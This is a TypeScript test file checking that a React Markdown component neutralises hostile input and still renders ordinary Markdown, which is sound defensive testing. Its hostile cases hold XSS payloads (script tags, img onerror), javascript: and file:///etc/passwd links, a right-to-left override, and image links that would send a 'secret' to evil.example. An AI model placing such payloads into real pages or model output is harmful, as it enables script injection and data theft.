import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import Markdown from './Markdown';

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
/** Names of all elements that came out. */
const elements = (text: string) => new Set([...html(text).matchAll(/<([a-z0-9]+)/g)].map((match) => match[1]));

describe('hostile Markdown', () => {
  it('keeps HTML as text', () => {
    const out = html('<script>alert(1)</script>\n\nx <img src=x onerror=alert(1)> <b>y</b>');
    expect(out).not.toMatch(/<(script|img|b)\b/);
    expect(out).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(out).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
  it('never loads an image, whichever way it is written', () => {
    for (const text of ['![a](https://evil.example/?q=secret)', '![a][r]\n\n[r]: https://evil.example/x.png', '[![a](https://evil.example/x)](https://b.example)']) {
      expect(elements(text), text).not.toContain('img');
      expect(html(text)).not.toMatch(/\ssrc=/);
    }
    expect(html('![chart](https://evil.example/?q=secret)')).toContain('image not loaded: chart');
  });
  it('links only to the web and to mail, without a referrer, and shows where', () => {
    for (const url of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd', '//evil.example', '/api/v1/traces']) {
      expect(elements(`[x](<${url}>)`), url).not.toContain('a');
    }
    const out = html('[bank](https://evil.example/login)');
    expect(out).toContain('rel="noopener noreferrer nofollow"');
    expect(out).toContain('(evil.example)');
  });
  it('makes bidirectional controls visible', () => {
    expect(html('pay \u202e001 EUR')).toContain('>RLO</span>001 EUR');
    expect(html('`\u202e`')).toContain('>RLO</span>');
  });
});

describe('ordinary Markdown', () => {
  it('is drawn', () => {
    const names = elements('# T\n\n- a\n- [x] b\n\n1. c\n\n| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n> q\n\n```js\nlet x;\n```\n\n**b** *i* `c`');
    for (const name of ['ul', 'ol', 'table', 's', 'blockquote', 'pre', 'strong', 'em', 'code']) expect(names).toContain(name);
  });
  it('loses no text', () => {
    const text = 'One <i>two</i> [three](x:y) ![four](u) `five` **six**';
    const out = html(text).replace(/<[^>]*>/g, '');
    for (const word of ['One', 'two', 'three', 'four', 'five', 'six']) expect(out).toContain(word);
  });
});
